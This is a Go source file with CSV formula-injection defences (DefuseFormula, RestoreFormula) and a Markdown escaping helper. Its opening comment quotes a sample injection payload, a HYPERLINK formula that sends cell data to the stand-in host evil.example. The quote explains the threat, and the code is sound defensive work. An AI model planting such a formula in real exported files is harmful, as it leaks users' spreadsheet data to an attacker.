package table

import "strings"

// Spreadsheets run a CSV cell that begins with "=", "+", "-" or "@" (or
// with a tab or carriage return before one) as a formula: a cell such as
// =HYPERLINK("http://evil.example/?x="&A1,"click") sends the sheet's data
// away when clicked (OWASP, "CSV Injection"). DefuseFormula and
// RestoreFormula are the one convention of ismskit's CSV writers and
// readers against it:
//
//   - a writer passes every cell through DefuseFormula, which puts an
//     apostrophe before a cell beginning with one of those characters, or
//     with an apostrophe itself; spreadsheets show such a cell as the
//     text after the apostrophe, and run nothing;
//   - the library's own reader passes every cell through RestoreFormula,
//     which removes that one leading apostrophe, so that every cell,
//     one that really begins with an apostrophe included, reads back
//     exactly as it was before writing.
//
// A cell written by hand that begins with an apostrophe loses it when the
// library reads it, as it does when a spreadsheet shows it.

// DefuseFormula returns cell with an apostrophe put before it when it
// begins with '=', '+', '-', '@', a tab, a carriage return or an
// apostrophe; other cells are returned as they are.
func DefuseFormula(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r', '\'':
		return "'" + cell
	}
	return cell
}

// RestoreFormula undoes DefuseFormula: it removes one leading apostrophe.
func RestoreFormula(cell string) string { return strings.TrimPrefix(cell, "'") }

// MarkdownText escapes text for Markdown inline content, such as a table
// cell or a heading: "&", "<" and ">" become character references, so
// that no text is read as HTML (a <script> element stays text), and "\",
// "`", "*", "_", "[", "]", "~" and "#" get a backslash, so that no text
// becomes a link, an image, code or emphasis. Line breaks are left alone;
// WriteMarkdown turns them into <br> in cells.
func MarkdownText(s string) string { return mdTextEscaper.Replace(s) }

var mdTextEscaper = strings.NewReplacer(
	"&", "&amp;", "<", "&lt;", ">", "&gt;",
	`\`, `\\`, "`", "\\`", "*", `\*`, "_", `\_`, "[", `\[`, "]", `\]`, "~", `\~`, "#", `\#`,
)
